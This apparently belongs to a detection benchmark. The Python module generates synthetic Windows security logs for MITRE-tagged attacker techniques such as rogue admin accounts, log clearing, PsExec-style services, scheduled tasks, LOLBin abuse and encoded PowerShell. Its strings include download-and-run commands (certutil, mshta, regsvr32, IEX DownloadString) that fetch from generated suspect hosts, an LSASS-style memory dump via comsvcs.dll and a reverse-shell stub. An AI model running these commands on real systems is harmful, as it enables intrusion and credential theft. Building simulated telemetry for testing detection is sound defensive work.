"""What they do on a machine: programs, services, tasks, accounts with power, traces removed."""

import base64

from benchmarks.town import ordinary, places
from benchmarks.town.ordinary import SYSTEM32, reach
from benchmarks.town.scene import Scene
from benchmarks.town.scribe import EXPLORER, SERVICES_EXE


def group_manipulation(scene: Scene) -> None:
    """T1098: an account becomes a member of a group with power."""
    rng, scribe = scene.rng, scene.scribe
    admin, friend = rng.choice(scene.town.admins), scene.person()
    actor = rng.choice((admin.admin, admin.user, rng.choice(list(scene.town.services.values())), scene.person().user))
    group, rid, code = rng.choice(scene.pick(
        (("Domänen-Admins", 512, 4728), ("Organisations-Admins", 519, 4756), ("Domain Admins", 512, 4728)),
        (("Administratoren", 544, 4732), ("Sicherungs-Operatoren", 551, 4732), ("Domain Admins", 512, 4728)),
        (("DnsAdmins", 1101, 4728), ("Remotedesktopbenutzer", 555, 4732), ("gg-server-betrieb", 2210, 4728)),
    ))  # fmt: skip
    at = scene.at(*scene.pick((0, 5), (18, 23), (8, 16)))
    scribe.group(at, code, actor, friend.user, group, rid)
    if rng.random() < scene.pick(0.8, 0.5, 0.2):
        scribe.account(at + 30, 4724, actor, friend.user)
    if rng.random() < 0.5:
        scribe.account(at + 40, 4738, actor, friend.user)
    scene.concern(actor, friend)
    scene.about.description = f"{actor} puts {friend.user} into {group}"


def new_administrator(scene: Scene) -> None:
    """T1136: a new account, local or in the domain, that is an administrator at once."""
    rng, scribe = scene.rng, scene.scribe
    one = scene.at_work()
    local = rng.random() < 0.6
    actor = one.person.user if rng.random() < 0.5 else rng.choice(scene.town.admins).admin
    target = rng.choice((one.person.pc, *scene.town.roles("app", "terminal")))
    name = rng.choice(
        ("support", "helpdesk1", "wartung", "sysadmin", "defaultuser0", f"{places.word(rng, 2)}", "backupsvc")
    )
    at = scene.at(*scene.pick((0, 23), (17, 23), (8, 17)))
    if rng.random() < scene.pick(1, 0.7, 0.3):
        scribe.process(
            at - 1,
            target.name,
            actor,
            SYSTEM32 + "net.exe",
            f"net user {name} {places.word(rng)}!7 /add",
            SYSTEM32 + "cmd.exe",
        )
    where = target.name if local else ""
    scribe.account(at, 4720, actor, name, where)
    scribe.account(at + 0.2, 4722, actor, name, where)
    at += rng.uniform(1, scene.pick(5, 300, 3600))
    if local:
        scribe.group(at, 4732, actor, name, "Administratoren", 544, target.name)
    else:
        scribe.group(at, 4728, actor, name, rng.choice(("Domänen-Admins", "Domain Admins")), 512)
    scene.concern(actor, name, *((target,) if local else ()))
    scene.about.description = f"{actor} creates {name} and makes it an administrator"


def log_clearing(scene: Scene) -> None:
    """T1070.001: event logs are cleared."""
    rng, scribe = scene.rng, scene.scribe
    one = scene.at_work()
    actor = rng.choice((one.person.user, rng.choice(scene.town.admins).admin))
    targets = rng.sample([m for m in (*scene.town.servers, *scene.town.pcs[:40]) if not m.linux], scene.pick(6, 2, 1))
    at = scene.at(*scene.pick((0, 23), (12, 23), (8, 17)))
    for target in targets:
        at += rng.expovariate(1 / 120)
        if rng.random() < scene.pick(1, 0.6, 0.2):
            scribe.process(
                at - 0.5,
                target.name,
                actor,
                SYSTEM32 + "wevtutil.exe",
                f"wevtutil cl {rng.choice(('Security', 'System', 'Application'))}",
                SYSTEM32 + "cmd.exe",
            )
        scribe.cleared(at, target.name, actor)
        scene.concern(target)
    scene.concern(actor)
    scene.about.description = f"security log cleared on {len(targets)} machines"


def service_installation(scene: Scene) -> None:
    """T1569.002: a program is run as a service on other machines, as PsExec and its relatives do."""
    rng, scribe = scene.rng, scene.scribe
    one = scene.at_work()
    user = rng.choice(scene.town.admins).admin if rng.random() < 0.5 else one.person.user
    targets = rng.sample(
        [m for m in (*scene.town.servers, *scene.town.pcs) if not m.linux and m is not one.person.pc],
        scene.pick(10, 4, rng.choice((1, 2))),
    )
    name = scene.pick(
        rng.choice(("PSEXESVC", "".join(rng.choices("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ", k=8)))),
        rng.choice(("WinUpdateHelper", "BTOBTO")) + str(rng.randrange(99)),
        f"{places.word(rng).title()} Service",
    )
    path = scene.pick(
        rng.choice((rf"%SystemRoot%\{name}.exe", "%COMSPEC% /Q /c echo dir ^> \\\\127.0.0.1\\C$\\__out 2^>^&1 > %TEMP%\\run.bat & %COMSPEC% /Q /c %TEMP%\\run.bat")),
        rf"C:\Windows\Temp\{places.word(rng, 2)}.exe", rf"C:\ProgramData\{places.word(rng).title()}\{places.word(rng, 2)}.exe -s",
    )  # fmt: skip
    at = rng.uniform(one.begins + 600, one.ends - 1200)
    for target in targets:
        at += rng.expovariate(1 / scene.pick(20, 300, 1500))
        reach(
            scribe,
            at,
            user,
            one.address,
            target,
            rng,
            package=rng.choice(("NTLM", "Kerberos")),
            workstation=one.person.pc.name,
        )
        scribe.share(at + 0.5, target.name, user, one.address, "ADMIN$")
        scribe.service_installed(at + 1.5, target.name, user, name, path, audit=rng.random() < 0.7)
        scribe.process(
            at + 2,
            target.name,
            "SYSTEM",
            path.split(" ")[0].replace("%SystemRoot%", r"C:\Windows").replace("%COMSPEC%", SYSTEM32 + "cmd.exe"),
            path,
            SERVICES_EXE,
        )
        scene.concern(target)
    scene.concern(user, one.person.pc, one.address)
    scene.about.description = f"service {name} on {len(targets)} machines"


def scheduled_task(scene: Scene) -> None:
    """T1053.005: a scheduled task that starts a program from an odd place."""
    rng, scribe = scene.rng, scene.scribe
    one = scene.at_work()
    targets = (
        [one.person.pc]
        if scene.stealth == "stealthy"
        else rng.sample([m for m in scene.town.pcs if not m.linux], scene.pick(6, 2, 1))
    )
    user = one.person.user if scene.stealth == "stealthy" or rng.random() < 0.5 else rng.choice(scene.town.admins).admin
    name = rng.choice(("Updater", "MicrosoftEdgeUpdateTaskMachineQC", "OneDrive Sync", places.word(rng).title()))
    program = rng.choice(
        (
            rf"C:\Users\{one.person.user}\AppData\Roaming\{places.word(rng, 2)}.exe",
            r"C:\Users\Public\Libraries\run.vbs",
            rf"C:\ProgramData\{places.word(rng, 2)}\a.bat",
        )
    )
    at = rng.uniform(one.begins + 600, one.ends - 1200)
    for target in targets:
        at += rng.expovariate(1 / scene.pick(20, 300, 60))
        if rng.random() < scene.pick(1, 0.8, 0.5):
            scribe.process(
                at,
                target.name,
                user,
                SYSTEM32 + "schtasks.exe",
                f'schtasks /create /tn "{name}" /tr "{program}" /sc {rng.choice(("minute /mo 30", "onlogon", "daily /st 03:10"))} /f',
                SYSTEM32 + "cmd.exe",
            )
        scribe.task(at + 0.4, target.name, user, name, program)
        for again in range(scene.pick(6, 4, 2)):
            scribe.process(
                at + 1800 * (again + 1),
                target.name,
                user,
                program if program.endswith(".exe") else SYSTEM32 + "wscript.exe",
                program,
                SYSTEM32 + "svchost.exe",
            )
        scene.concern(target)
    scene.concern(user, *((one.address,) if one.person.pc in targets else ()))
    scene.about.description = f"task {name} starts {program}"


def living_off_the_land(scene: Scene) -> None:
    """T1218: programs of the system used against it, started by an office document or a download."""
    rng, scribe = scene.rng, scene.scribe
    one = scene.at_work()
    user, pc = one.person.user, one.person.pc.name
    server = places.address(rng, rng.choice((*places.CLOUD, *places.SUSPECT)))
    name = places.word(rng, 2)
    loud = [
        ("mshta.exe", f"mshta http://{server}/{name}.hta"), ("certutil.exe", f"certutil -urlcache -split -f http://{server}/{name}.dat C:\\Users\\Public\\{name}.exe"),
        ("regsvr32.exe", f"regsvr32 /s /n /u /i:http://{server}/{name}.sct scrobj.dll"), ("bitsadmin.exe", f"bitsadmin /transfer {name} http://{server}/{name} C:\\Users\\Public\\{name}.exe"),
    ]  # fmt: skip
    medium = [
        ("rundll32.exe", f"rundll32.exe C:\\Users\\{user}\\AppData\\Local\\Temp\\{name}.dll,Start"), ("rundll32.exe", "rundll32.exe C:\\windows\\system32\\comsvcs.dll, MiniDump 712 C:\\Windows\\Temp\\d.bin full"),
        ("wscript.exe", f"wscript.exe C:\\Users\\{user}\\Downloads\\Rechnung_{rng.randrange(9999)}.js"), ("msbuild.exe", f"msbuild.exe C:\\Users\\{user}\\AppData\\Local\\Temp\\{name}.xml"),
    ]  # fmt: skip
    quiet = [
        (f"{name}.exe", f"C:\\Users\\{user}\\AppData\\Local\\{name.title()}\\{name}.exe --quiet"), ("odbcconf.exe", f"odbcconf.exe /a {{regsvr C:\\Users\\{user}\\{name}.dll}}"),
        ("forfiles.exe", "forfiles /p c:\\windows\\system32 /m notepad.exe /c calc"), ("hh.exe", f"hh.exe C:\\Users\\{user}\\Downloads\\{name}.chm"),
    ]  # fmt: skip
    at = rng.uniform(one.begins + 600, one.ends - 1200)
    parent = (
        ordinary.program_path(rng.choice(("winword.exe", "excel.exe", "outlook.exe")))
        if rng.random() < 0.6
        else scene.pick(SYSTEM32 + "cmd.exe", EXPLORER, EXPLORER)
    )
    chosen = rng.sample(scene.pick(loud, medium, quiet), scene.pick(3, 2, 1))
    for program, command in chosen:
        image = SYSTEM32 + program if program != f"{name}.exe" else command.split(" ")[0]
        at += rng.uniform(3, scene.pick(30, 200, 600))
        scribe.process(at, pc, user, image, command, parent)
        if "http" in command:
            scribe.connection(at + 1, pc, user, image, one.address, server, 80)
            scribe.flow(at + 1, one.address, server, 80, 900, 240_000)
            scene.concern(server)
        if rng.random() < 0.5:
            scribe.dropped(at + 2, pc, user, image, rf"C:\Users\{user}\AppData\Local\Temp\{name}.exe")
    if rng.random() < scene.pick(1, 0.6, 0.4):
        for program, command in rng.sample(
            [
                ("whoami.exe", "whoami /all"),
                ("net.exe", 'net group "Domain Admins" /domain'),
                ("nltest.exe", "nltest /dclist:"),
                ("systeminfo.exe", "systeminfo"),
                ("arp.exe", "arp -a"),
            ],
            scene.pick(4, 3, 1),
        ):
            at += rng.uniform(5, 90)
            scribe.process(at, pc, user, SYSTEM32 + program, command, image)
    scene.concern(one.person, one.person.pc, one.address)
    scene.about.description = ", ".join(p for p, _ in chosen)


def encoded_powershell(scene: Scene) -> None:
    """T1059.001: PowerShell with an encoded command."""
    rng, scribe = scene.rng, scene.scribe
    one = scene.at_work()
    user, pc = one.person.user, one.person.pc.name
    server = places.address(rng, rng.choice((*places.CLOUD, *places.SUSPECT)))
    text = (
        rng.choice(
            (
                f"IEX (New-Object Net.WebClient).DownloadString('http://{server}/a')",
                f"$c=New-Object Net.Sockets.TCPClient('{server}',443);$s=$c.GetStream()",
                f"Invoke-WebRequest http://{server}/{places.word(rng)} -OutFile $env:TEMP\\x.exe; Start-Process $env:TEMP\\x.exe",
            )
        )
        + ";"
        + places.word(rng, rng.randint(5, 120))
    )
    code = base64.b64encode(text.encode("utf-16-le")).decode()
    switch = scene.pick(
        rng.choice(("-nop -w hidden -enc", "-ep bypass -EncodedCommand")),
        rng.choice(("-e", "-ec", "-enco")),
        rng.choice(("-NoProfile -EncodedCommand", "-enc")),
    )
    image = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
    at = rng.uniform(one.begins + 600, one.ends - 1200)
    parent = rng.choice(
        (
            SYSTEM32 + "cmd.exe",
            ordinary.program_path("winword.exe"),
            SYSTEM32 + "wscript.exe",
            EXPLORER,
            SYSTEM32 + "svchost.exe",
        )
    )
    for _ in range(scene.pick(4, 2, 1)):
        scribe.process(at, pc, user, image, f"powershell.exe {switch} {code}", parent)
        if rng.random() < scene.pick(1, 0.7, 0.3):
            scribe.script(at + 0.5, pc, text)
        if rng.random() < 0.7:
            scribe.connection(at + 1, pc, user, image, one.address, server, 443)
            scribe.flow(at + 1, one.address, server, 443, 1400, 300_000)
            scene.concern(server)
        at += rng.uniform(60, 2400)
    scene.concern(one.person, one.person.pc, one.address)
    scene.about.description = f"encoded command, {len(code)} characters"
